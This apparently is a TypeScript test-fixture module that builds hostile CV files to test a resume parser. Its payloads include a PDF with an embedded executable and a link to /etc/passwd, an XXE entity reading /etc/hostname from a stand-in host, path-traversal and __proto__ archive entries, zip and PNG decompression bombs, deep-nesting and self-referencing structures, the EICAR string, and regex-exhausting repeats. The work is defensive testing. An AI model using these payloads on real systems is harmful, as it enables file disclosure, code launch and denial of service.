import { deflateRawSync, deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { docx, onePage, paragraph, pdf, pngChunk, SHOWN, stream } from './hostile-resumes.ts';

// CVs that hide something, or say of themselves what they are not. Each is small.

const SHOWN_TEXT = paragraph('Ana Ruiz Soto') + paragraph('Tel. 55 1234 5678');
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const RELATIONSHIPS = 'http://schemas.openxmlformats.org/package/2006/relationships';

/** Files in a PDF, one of them a program, and links that start it, open a folder of the server or another site. */
export function pdfWithFiles(): Buffer {
  const catalogue =
    '/Names<</EmbeddedFiles<</Names[(factura.exe)8 0 R]>>>>/OpenAction<</S/GoToR/F(file:///etc/passwd)/D[0/Fit]>>/AcroForm<</XFA 9 0 R/Fields[]>>';
  const file = [
    '8 0 obj<</Type/Filespec/F(factura.exe)/EF<</F 7 0 R>>>>endobj\n7 0 obj',
    stream('/Type/EmbeddedFile', Buffer.from('MZ')),
    'endobj\n9 0 obj',
    stream(
      '',
      Buffer.from('<xdp:xdp><script>app.launchURL("http://x.example")</script></xdp:xdp>'),
    ),
    'endobj\n',
  ];
  return Buffer.concat([onePage(SHOWN, { catalogue }), ...file.map((part) => Buffer.from(part))]);
}

/** A table of letters that says of each code up to two thousand million what it looks like. */
export function pdfOfEndlessLetters(): Buffer {
  const map =
    '/CIDInit/ProcSet findresource begin begincmap 1 begincodespacerange <00000000> <7fffffff> endcodespacerange 1 beginbfrange <00000000> <7ffffffe> <0041> endbfrange endcmap';
  return pdf(
    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n',
    '5 0 obj<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[7 0 R]/ToUnicode 6 0 R>>endobj\n',
    '7 0 obj<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>>>endobj\n6 0 obj',
    stream('', Buffer.from(map)),
    'endobj\n4 0 obj',
    stream('', Buffer.from('BT /F1 12 Tf 50 700 Td <00410042> Tj ET')),
    'endobj\n',
  );
}

/** Lists in lists, deeper than any stack. */
export function pdfOfDeepLists(): Buffer {
  const depth = 200_000;
  return onePage(SHOWN, { catalogue: `/Deep ${'['.repeat(depth)}${']'.repeat(depth)}` });
}

/** A tree of pages whose branches have one branch each. */
export function pdfOfDeepPages(): Buffer {
  const depth = 20_000;
  const branches = Array.from({ length: depth }, (_, index) => {
    const kid = index + 1 < depth ? index + 11 : 3;
    return `${index + 10} 0 obj<</Type/Pages/Kids[${kid} 0 R]/Count 1>>endobj\n`;
  });
  return pdf(
    '1 0 obj<</Type/Catalog/Pages 10 0 R>>endobj\n',
    ...branches,
    '3 0 obj<</Type/Page/Parent 10 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n4 0 obj',
    stream('', SHOWN),
    'endobj\n',
  );
}

/** Its table of contents says that the one before it is itself. */
export function pdfOfItsOwnPast(): Buffer {
  const file = onePage(SHOWN);
  const at = file.length;
  const table = `xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 99/Prev ${at}>>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([file, Buffer.from(table)]);
}

/** As many words side by side, and in rows, as a page can hold. */
export function pdfOfManyWords(): Buffer {
  const words = Array.from({ length: 20_000 }, (_, index) => {
    const [left, top] = [(index % 100) * 5.9, 836 - Math.floor(index / 100) * 1.38];
    return `BT /F1 1 Tf ${left} ${top} Td (de a) Tj ET`;
  });
  return onePage(deflateSync(Buffer.from(words.join('\n'))), { filter: '/Filter/FlateDecode' });
}

/** Names of files that lead out of any folder, beside text. */
export function docxOfPaths(): Buffer {
  return docx(SHOWN_TEXT, {
    parts: {
      '../../../../../../tmp/rumbo-escaped.txt': 'x',
      '/tmp/rumbo-escaped.txt': 'x',
      '..\\..\\rumbo-escaped.bat': 'x',
      __proto__: 'x',
    },
  });
}

/** The document itself is said to lie on the server, or on another one. */
export function docxOfElsewhere(target: string): Buffer {
  return docx(SHOWN_TEXT, {
    parts: {
      '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="${target}" TargetMode="External"/></Relationships>`,
    },
  });
}

/** A definition of the document that is fetched from another server, and letters out of a file of this one. */
export function docxOfEntitiesElsewhere(): Buffer {
  const prologue =
    '<!DOCTYPE w:document SYSTEM "http://x.example/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>';
  return docx(SHOWN_TEXT, { prologue });
}

/** An archive in an archive in an archive, the innermost of which is large. */
export function docxOfArchives(): Buffer {
  let inner = zipSync({ a: new Uint8Array(20 * 1024 * 1024) });
  for (let level = 0; level < 20; level++) inner = zipSync({ 'word/document.xml': inner });
  return docx(SHOWN_TEXT, {
    parts: { 'word/embeddings/a.zip': Buffer.from(inner).toString('latin1') },
  });
}

/** Its directory says 400 bytes; what it unpacks to has 400 MB. */
export function docxOfLies(): Buffer {
  const file = docx('@@');
  const name = Buffer.from('word/document.xml');
  const bomb = deflateRawSync(Buffer.alloc(400 * 1024 * 1024, 'a'));
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(bomb.length, 18);
  local.writeUInt32LE(400, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(bomb.length, 20);
  central.writeUInt32LE(400, 24);
  central.writeUInt16LE(name.length, 28);
  return appendEntry(file, { name, local: Buffer.concat([local, name, bomb]), central });
}

interface Entry {
  readonly name: Buffer;
  readonly local: Buffer;
  readonly central: Buffer;
}

/** The archive with one more entry, which goes before that of the same name. */
function appendEntry(file: Buffer, { name, local, central }: Entry): Buffer {
  const end = file.length - 22;
  const count = file.readUInt16LE(end + 10);
  const from = file.readUInt32LE(end + 16);
  central.writeUInt32LE(from, 42);
  const directory = Buffer.concat([file.subarray(from, end), central, name]);
  const tail = Buffer.from(file.subarray(end));
  tail.writeUInt16LE(count + 1, 8);
  tail.writeUInt16LE(count + 1, 10);
  tail.writeUInt32LE(directory.length, 12);
  tail.writeUInt32LE(from + local.length, 16);
  return Buffer.concat([file.subarray(0, from), local, directory, tail]);
}

/** One picture of 50,000 pixels on each side, and one that is a line. */
export function pictureOfSides(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(1, 8);
  const rows = Buffer.alloc(Math.min(height, 1000) * (1 + Math.ceil(width / 8)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** What scanners of viruses are tried with; a text like any other. */
export function virusLikeText(): Buffer {
  const mark = [
    'X5O!P%@AP[4',
    '\\PZX54(P^)7CC)7}',
    '$EICAR-STANDARD-',
    'ANTIVIRUS-TEST-FILE!$H+H*',
  ];
  return Buffer.from(`${mark.join('')}\nNombre: Ana Ruiz Soto\nTel. 55 1234 5678\n`);
}

/** Letters that patterns come back to again and again. */
export function textsOfRepeats(): readonly (readonly [what: string, text: string])[] {
  const times = 200_000;
  return [
    ['stars', '*a '.repeat(times / 3)],
    ['digits', '5 '.repeat(times / 2)],
    ['particles', 'Ana de la '.repeat(times / 10)],
    ['commas', 'a,\n'.repeat(times / 3)],
    ['cells', 'Empresa\t'.repeat(times / 8)],
    ['labels', 'Empresa: Puesto: '.repeat(times / 17)],
    ['spans', 'enero 2020 -\n'.repeat(times / 13)],
    ['brackets', '('.repeat(times)],
    ['licences', 'Licencia tipo '.repeat(times / 14)],
    ['years', '2 años '.repeat(times / 7)],
    ['addresses', 'a@'.repeat(times / 2)],
    ['blanks', ' '.repeat(times)],
  ];
}
